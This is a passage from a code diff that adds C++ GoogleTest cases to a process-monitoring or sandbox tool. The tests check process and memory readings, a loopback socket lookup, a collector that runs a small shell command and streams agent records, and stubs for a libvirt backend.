+    EXPECT_EQ(st.ppid, getppid());
+    MemoryInfo memory;
+    ASSERT_TRUE(read_memory_info(getpid(), memory));
+    EXPECT_EQ(memory[0].first, "rss");
+    EXPECT_GT(memory[0].second, 0u);
+
+    int port = 0;
+    int fd = listen_loopback(port);
+    std::map<uint64_t, int> inodes;
+    read_socket_inodes(getpid(), inodes);
+    bool found = false;
+    for (const auto &entry : inodes) found = found || entry.second == fd;
+    EXPECT_TRUE(found);
+
+    SockDiag diag;
+    std::vector<InetSocket> sockets;
+    if (diag.open() && diag.dump(sockets)) {
+        auto it = std::find_if(sockets.begin(), sockets.end(), [&](const InetSocket &s) { return s.local_port == port; });
+        ASSERT_NE(it, sockets.end());
+        EXPECT_EQ(psutil_addr(it->local_ip, it->local_port), "addr(ip='127.0.0.1', port=" + std::to_string(port) + ")");
+        EXPECT_EQ(psutil_addr(it->remote_ip, it->remote_port), "()");
+        EXPECT_EQ(psutil_status(it->protocol, it->state), "LISTEN");
+        EXPECT_TRUE(inodes.count(it->inode));
+    }
+    close(fd);
+}
+
+TEST(SafeBoxTests, Collector_StreamsAgentRecords) {
+    namespace fs = std::filesystem;
+    TempDir dir_dir("collector");
+    const fs::path &dir = dir_dir.path();
+    CollectorOptions options;
+    options.argv = {"/bin/sh", "-c", "sleep 0.2 & echo out; wait; exit 3"};
+    options.output_dir = dir.string();
+    options.sample_interval_ms = 50;
+    std::ostringstream out;
+    ASSERT_EQ(Collector(options, out).run(), 0);
+
+    // The host's assembler takes it as an agent stream.
+    ReportAssembler assembler;
+    std::string text = out.str();
+    assembler.feed(text.data(), text.size());
+    assembler.finish();
+    EXPECT_TRUE(assembler.complete());
+    EXPECT_EQ(assembler.malformed(), 0u);
+    ReportSummary summary = summarize_report(agent_report_from_json(assembler.report()));
+    EXPECT_EQ(summary.outcome, "exited");
+    EXPECT_EQ(summary.returncode, 3);
+    EXPECT_GE(summary.processes, 2);  // sh and its sleep
+    EXPECT_GE(summary.samples, 1u);
+
+    std::string line;
+    for (const auto &entry : fs::directory_iterator(dir)) {
+        if (entry.path().filename().string().rfind("out-", 0) != 0) continue;
+        std::ifstream log(entry.path());
+        std::getline(log, line);
+    }
+    EXPECT_EQ(line, "out");
+}
+
+#ifndef SAFEBOX_WITH_LIBVIRT
+TEST(SafeBoxTests, LibvirtBackend_UnavailableWithoutLibvirt) {
+    EXPECT_EQ(start_vm("libvirt", "test-vm"), 1);
+    EXPECT_EQ(revert_vm("libvirt", "test-vm"), 1);
+}
+#endif
+
 int main(int argc, char **argv) {
     ::testing::InitGoogleTest(&argc, argv);
     return RUN_ALL_TESTS();